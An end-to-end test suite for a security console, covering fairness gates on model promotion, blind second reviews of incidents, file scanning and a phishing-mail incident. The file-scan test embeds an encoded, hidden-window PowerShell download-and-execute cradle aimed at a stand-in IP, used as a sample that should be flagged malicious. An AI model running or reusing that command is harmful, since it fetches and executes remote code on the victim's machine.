/**
 * The console on a real server, in a real browser, as two people use it: health of the model, groups whose answer gates a promotion,
 * a second review that does not show the first verdict, a file, and an incident about a phishing mail.
 */
import { spawnSync } from "node:child_process";
import { copyFileSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { openState } from "@cordon/adapters/storage/state";
import { incidentId } from "@cordon/model/ids";
import type { Outcome } from "@cordon/model/ports/journal";
import { DAY, HOUR, instant } from "@cordon/model/time";
import type { Browser, Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { browserPath, launchBrowser } from "../browser.ts";
import { phish } from "../integration/phishing-world.ts";
import { ROOT, type RunningServer, startServer } from "../server.ts";
import { hostOf, line, named, opened, until } from "./model-loop-world.ts";

const folder = mkdtempSync(join(tmpdir(), "cordon-pages-"));
const data = join(folder, "data");
const RULE = "11111111-1111-4111-8111-111111111111";
const CASES = 600;

if (browserPath === undefined) console.warn("tests of the console's pages skipped: no Chromium on this machine");

/** In the north what is malicious is missed, in the south it is found; the rows tell the two kinds apart well. */
function seeded(at: number): Outcome {
  const malicious = (at * 61) % 100 < 40;
  const north = at % 2 === 0;
  const sure = 0.85 + ((at * 7) % 10) / 100;
  return {
    ...{ incident: incidentId(`INC-SEED-${at}`), by: at % 3 === 0 ? "ann" : "cid", note: "", rules: [RULE] },
    at: instant(Date.now() - 60 * DAY + at * HOUR),
    verdict: malicious ? "true-positive" : "false-positive",
    features: {
      ...{ severity: "high", predicted: malicious && !north ? sure : 0.1, model: "gone", actions: [] },
      ...{ groups: { region: north ? "North" : "South" }, subject: `s${at}` },
      row: {
        rule: RULE,
        values: { priority: 30 + (malicious ? 30 : 0) + ((at * 7) % 20), hour: at % 24, asset: malicious ? 10 : 2 },
      },
    },
  };
}

describe.skipIf(browserPath === undefined)("pages of the console", () => {
  let server: RunningServer;
  let browser: Browser;
  const complaints: string[] = [];
  const args = ["--config", join(folder, "cordon.yml")];

  beforeAll(async () => {
    mkdirSync(join(data, "rules"), { recursive: true });
    // JSON is YAML.
    const learning = { verdicts: 40, quarantineHours: 0, shadowDays: 0, shadowVerdicts: 0, reviewShare: 1 };
    const mail = { servers: ["mx.corp.example"], ownDomains: ["corp.example"] };
    const rules = { shipped: false, watch: false };
    writeFileSync(join(folder, "cordon.yml"), JSON.stringify({ rules, behaviour: { enabled: false }, mail, learning }));
    writeFileSync(
      join(data, "rules", "updater.yml"),
      `title: Program updater\nid: ${RULE}\nstatus: test\nlevel: medium\nlogsource: { product: windows, category: process_creation }\n` +
        "detection: { s: { Image|endswith: updater.exe }, condition: s }\n",
    );
    const phishing = "reported-phishing-mail.yml";
    copyFileSync(join(ROOT, "content/rules/initial-access", phishing), join(data, "rules", phishing));
    const vite = join(ROOT, "node_modules/vite/bin/vite.js");
    const built = spawnSync(process.execPath, [vite, "build", "--logLevel", "error"], {
      ...{ cwd: join(ROOT, "packages/console"), encoding: "utf8" },
    });
    if (built.status !== 0) throw new Error(`console build: ${built.stdout}${built.stderr}`);
    const first = await startServer({ data, args });
    await first.stop();
    const state = openState({ dir: data });
    for (let at = 0; at < CASES; at += 1) await state.outcomes.add(seeded(at));
    await state.close();
    server = await startServer({ data, args });
    browser = await launchBrowser();
  }, 180_000);
  afterAll(async () => {
    await browser?.close();
    await server?.stop();
    rmSync(folder, { recursive: true, force: true });
  });

  /** A browser of one's own, signed in by a one-time link. */
  async function signedIn(name: string, role: string): Promise<Page> {
    const { json } = await server.call("POST", "/tokens", { name, role, use: "link" });
    const page = await (await browser.newContext({ viewport: { width: 1440, height: 900 } })).newPage();
    page.on("pageerror", (error) => complaints.push(String(error)));
    // An answer with an error status is an answer; the browser logs each.
    page.on("console", (message) => {
      if (message.type() === "error" && !message.text().startsWith("Failed to load")) complaints.push(message.text());
    });
    await page.goto(`${server.url}/login#${String(json.secret)}`);
    await page.getByRole("link", { name: "Cordon, to the queue" }).waitFor();
    return page;
  }

  /** All text of the page, but for the buttons of a verdict. */
  async function shownBy(page: Page): Promise<string> {
    const all = (await page.locator("main").textContent()) ?? "";
    const buttons = (await page.locator("fieldset.verdicts").allTextContents()).filter((text) => text !== "");
    return buttons.reduce((text, own) => text.replace(own, ""), all);
  }

  it("health, then a promotion that a difference between groups keeps back until it is answered in writing", {
    timeout: 180_000,
  }, async () => {
    const trained = await server.call("POST", "/models/train");
    expect([trained.status, trained.json.code]).toEqual([200, undefined]);
    const page = await signedIn("vera", "admin");
    await page.goto(`${server.url}/models/health`);
    for (const title of ["Where we stand", "Closing without a person", "What nobody looked at", "Do analysts agree?"])
      await page.getByRole("heading", { name: title }).waitFor();
    await page.getByText("A person looked at everything that was decided").waitFor();
    await page.getByText("A challenger stands in shadow").waitFor();

    await page.getByRole("link", { name: "Compare and promote" }).click();
    const promote = page.getByRole("button", { name: "Promote" }).first();
    await promote.click();
    await page
      .getByText(/fairness/)
      .first()
      .waitFor();
    expect((await server.call("GET", "/models")).json.serving).toBeUndefined();

    await page.goto(`${server.url}/models/groups`);
    const answers = page.locator("button").filter({ hasText: /^Answer$/ });
    await answers.first().waitFor();
    for (let left = await answers.count(); left > 0; left -= 1) {
      await answers.first().click();
      const dialog = page.getByRole("dialog");
      await dialog.getByText("Mitigate").click();
      await dialog.getByRole("textbox").fill("The north gets the same sensors by March.");
      await dialog.getByRole("button", { name: "Give answer" }).click();
      await dialog.waitFor({ state: "detached" });
      await until("one answer less", async () => ((await answers.count()) < left ? true : undefined));
    }
    expect(await answers.count()).toBe(0);
    const gates = await server.call("GET", `/models/${String(trained.json.id)}/gates`);
    const fairness = (gates.json.gates as { gate: string; passed: boolean }[]).find(({ gate }) => gate === "fairness");
    expect(fairness).toMatchObject({ passed: true });
    await page.getByText("vera").first().waitFor();
  });

  it("a second review: the page of the incident hides verdict, note and name until the second verdict is given", {
    timeout: 120_000,
  }, async () => {
    const [id = "", other = ""] = await until("two incidents", async () => {
      const all = await opened(server, [line(1, "updater.exe"), line(2, "updater.exe")], [hostOf(1), hostOf(2)]);
      return [named(all, 1).id, named(all, 2).id];
    });
    const zoe = await signedIn("zoe", "analyst");
    for (const each of [id, other]) {
      await zoe.goto(`${server.url}/incidents/${each}?close=1`);
      const dialog = zoe.getByRole("dialog");
      await dialog.locator('input[value="benign-positive"]').check();
      await dialog.getByRole("textbox").first().fill("Quarterly inventory of Zanzibar");
      await dialog.getByRole("button", { name: "Close incident" }).click();
      await dialog.waitFor({ state: "detached" });
    }
    await zoe.goto(`${server.url}/incidents/${id}?tab=notes`);
    await zoe.getByText("Closed as benign positive").waitFor();

    const page = await signedIn("yan", "analyst");
    const telling = /zoe|Zanzibar|benign positive/i;
    for (const tab of ["story", "timeline&show=done", "evidence", "actions", "notes", "report"]) {
      await page.goto(`${server.url}/incidents/${id}?tab=${tab}`);
      await page.getByText("You are asked for a second verdict.").waitFor();
      await page.locator(".spinner").first().waitFor({ state: "detached" });
      const text = await shownBy(page);
      expect(text, tab).not.toMatch(telling);
    }
    // The whole of what the browser was told, not only what it shows.
    for (const path of [`/incidents/${id}`, `/incidents/${id}/journal`, `/incidents/${id}/report?format=markdown`]) {
      const told = await page.evaluate(async (url) => (await fetch(url)).text(), `/api/v1${path}`);
      expect(told.length, path).toBeGreaterThan(100);
      expect(told, path).not.toMatch(/zoe|Zanzibar|benign-positive|"by":"yan"/);
    }
    await page.goto(`${server.url}/?status=closed`);
    await page.getByText("second verdict asked").first().waitFor();
    expect(await shownBy(page)).not.toMatch(telling);

    await page.goto(`${server.url}/models/reviews`);
    await page
      .getByRole("link", { name: /Program updater/ })
      .first()
      .click();
    await page.getByText("You are asked for a second verdict.").waitFor();
    await page.goto(`${server.url}/incidents/${id}`);
    await page.getByRole("button", { name: "False positive" }).click();
    await page.getByText("you differ; the first verdict was benign positive").waitFor();
    await page.getByText("Closed as benign positive").waitFor();
    // Who would rather see than judge may, and is not asked again.
    await page.goto(`${server.url}/incidents/${other}`);
    await page.getByRole("button", { name: "Show me what was decided instead" }).click();
    await page.getByText("Closed as benign positive").waitFor();
    const { json } = await server.call("GET", "/models/health");
    expect(json.agreement).toMatchObject({ pairs: 1, agreed: 0 });
  });

  it("a file: the verdict comes with its reasons", { timeout: 120_000 }, async () => {
    const page = await signedIn("yan", "analyst");
    await page.goto(`${server.url}/files`);
    const script =
      "powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQA5ADgALgA1ADEALgAxADAAMAAuADcALwBhACcAKQA=";
    await page
      .getByLabel("File to examine")
      .setInputFiles({ name: "update.bat", mimeType: "text/plain", buffer: Buffer.from(`@echo off\r\n${script}\r\n`) });
    const verdict = page.locator(".file-verdict");
    await verdict.waitFor({ timeout: 60_000 });
    expect(await verdict.textContent()).toMatch(/malicious|suspicious/i);
    expect(await page.locator(".file-reasons li").count()).toBeGreaterThan(0);
  });

  it("an incident about a phishing mail: verdict, reasons, whom it reached", { timeout: 120_000 }, async () => {
    const sent = await fetch(`${server.url}/api/v1/ingest/reports`, {
      ...{ method: "POST", body: phish({ id: "1@c0rp.example" }) },
      headers: { authorization: `Bearer ${server.token}`, "content-type": "message/rfc822" },
    });
    expect(sent.status).toBe(200);
    const id = await until("the incident of the mail", async () => {
      const { json } = await server.call("GET", "/incidents?limit=50");
      return (json.items as { id: string; title: string; machineVerdict?: string }[]).find(
        ({ title, machineVerdict }) => title.startsWith("Phishing mail") && machineVerdict !== undefined,
      )?.id;
    });
    const page = await signedIn("yan", "analyst");
    await page.goto(`${server.url}/incidents/${id}`);
    const card = page.getByRole("region", { name: "Mail" });
    await card.getByText("phishing", { exact: true }).waitFor();
    await card.getByText("Why, and who met it").click();
    await card
      .getByText(/shows one address and leads to another/)
      .first()
      .waitFor();
    await card
      .getByText(/bob@corp.example/)
      .first()
      .waitFor();
    expect(complaints).toEqual([]);
  });
});
